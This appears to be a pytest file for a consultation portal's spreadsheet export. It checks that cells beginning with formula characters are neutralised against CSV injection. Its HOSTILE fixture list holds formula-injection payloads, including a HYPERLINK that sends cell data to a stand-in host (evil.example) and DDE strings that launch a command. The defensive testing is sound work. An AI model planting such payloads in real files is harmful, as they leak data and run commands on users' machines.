"""Item 5 of issue 14: files meant for spreadsheets never carry a live formula (OWASP CSV
injection rule); the plain CSV and JSON keep every text exactly."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from portal import clock
from portal.spreadsheet import excel_csv, safe_cell
from tests.helpers import receipt_of, submit
from tests.staff.conftest import AFTER, DURING, moderate_group_answer, post

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
GROUP_SUMMARY = "=1+1 見守りと相談窓口を増やしてほしい。"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+1", "@A1", "\t=1", "\r=1", "=", "-"])
def test_safe_cell_neutralises_a_leading_formula_character(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["", "1", "見守り", "a=1", " =1", "'=1", "世田谷-1"])
def test_safe_cell_keeps_other_text(value):
    assert safe_cell(value) == value


def test_excel_csv_keeps_numbers_and_the_bom_and_neutralises_formulas():
    raw = b"a,b,c\n-5,=1+1,-0.25\n\"@x\",plain,\"-1+2\"\n"
    out = excel_csv(raw).decode("utf-8")
    assert out.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(out.removeprefix("\ufeff"))))
    assert rows == [["a", "b", "c"], ["-5", "'=1+1", "-0.25"], ["'@x", "plain", "'-1+2"]]


def _publish_hostile(staff_app, commented, admin) -> None:
    """Residents send formula-like comments; staff group them under a formula-like summary."""
    client = staff_app.test_client()
    numbers = []
    with clock.frozen(DURING):
        for text in HOSTILE:
            page = submit(client, body=text)
            numbers.append(receipt_of(page.get_data(as_text=True))[0])
    with clock.frozen(AFTER):
        gid = moderate_group_answer(admin, commented)
        r = post(admin, f"/staff/consultations/demo/groups/{gid}",
                 {"summary_ja": GROUP_SUMMARY, "response_ja": "@計画に反映します。",
                  "category": "reflected", "comment": [str(n) for n in [*commented, *numbers]]})
        assert r.status_code == 303, r.get_data(as_text=True)[:2000]
        r = post(admin, "/staff/consultations/demo/publish")
        assert r.status_code == 303, r.get_data(as_text=True)[:2000]


def _cells(path: Path) -> list[str]:
    """Every cell of a CSV file (BOM dropped)."""
    text = path.read_text(encoding="utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_excel_twins_of_a_published_result_hold_no_live_formula(staff_app, commented, admin):
    _publish_hostile(staff_app, commented, admin)
    releases = Path(staff_app.config["RELEASES_DIR"])
    twins = sorted(releases.rglob("*-excel.csv"))
    assert {p.name for p in twins} >= {"comments-excel.csv", "groups-excel.csv"}
    for twin in twins:
        for cell in _cells(twin):
            assert not cell.startswith(DANGEROUS) or cell.lstrip("-").replace(".", "").isdigit(), \
                (twin.name, cell)
    comments_excel = _cells(next(p for p in twins if p.name == "comments-excel.csv"))
    for text in HOSTILE:
        assert "'" + text in comments_excel
    assert "'" + GROUP_SUMMARY in _cells(next(p for p in twins if p.name == "groups-excel.csv"))
    plain = next(releases.rglob("comments.csv"))
    records = json.loads(next(releases.rglob("comments.json")).read_text(encoding="utf-8"))
    for text in HOSTILE:
        assert text in _cells(plain) and "'" + text not in _cells(plain)
        assert any(text in str(r.values()) for r in records)
